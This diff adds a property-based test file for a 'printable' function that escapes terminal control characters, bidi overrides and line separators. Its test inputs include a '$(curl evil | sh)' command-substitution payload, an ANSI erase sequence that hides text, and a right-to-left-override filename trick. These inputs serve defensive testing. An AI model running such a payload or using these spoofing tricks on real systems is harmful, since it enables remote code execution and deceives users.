@@ -1,0 +1,29 @@
+import fc from 'fast-check';
+import { describe, expect, it } from 'vitest';
+import { printable } from '../src/printable.js';
+
+const UNSAFE = /[\p{Cc}\p{Cf}\p{Zl}\p{Zp}]/u;
+
+describe('printable', () => {
+  it('escapes C0, DEL, C1, bidi overrides and separators; keeps everything else', () => {
+    expect(printable('HIDDEN\r\u001b[2KAWS_PROFILE')).toBe('HIDDEN\\r\\x1b[2KAWS_PROFILE');
+    expect(printable('a\tb\nc\u0000\u007f\u009b')).toBe('a\\tb\\nc\\x00\\x7f\\x9b');
+    expect(printable('key\u202egpj.exe\u2028x')).toBe('key\\u{202e}gpj.exe\\u{2028}x');
+    expect(printable('$(curl evil | sh) `x` é 鍵 \\x1b')).toBe('$(curl evil | sh) `x` é 鍵 \\x1b');
+    expect(printable('one\ntwo\r', { keepNewlines: true })).toBe('one\ntwo\\r');
+  });
+
+  it('never lets a control character through, and is idempotent (property)', () => {
+    fc.assert(
+      fc.property(fc.string({ unit: 'binary' }), (text) => {
+        const out = printable(text);
+        expect(UNSAFE.test(out)).toBe(false);
+        expect(printable(out)).toBe(out);
+        const kept = printable(text, { keepNewlines: true });
+        expect(UNSAFE.test(kept.replaceAll('\n', ''))).toBe(false);
+        expect(kept.split('\n').length).toBe(text.split('\n').length);
+      }),
+      { numRuns: 1000 },
+    );
+  });
+});
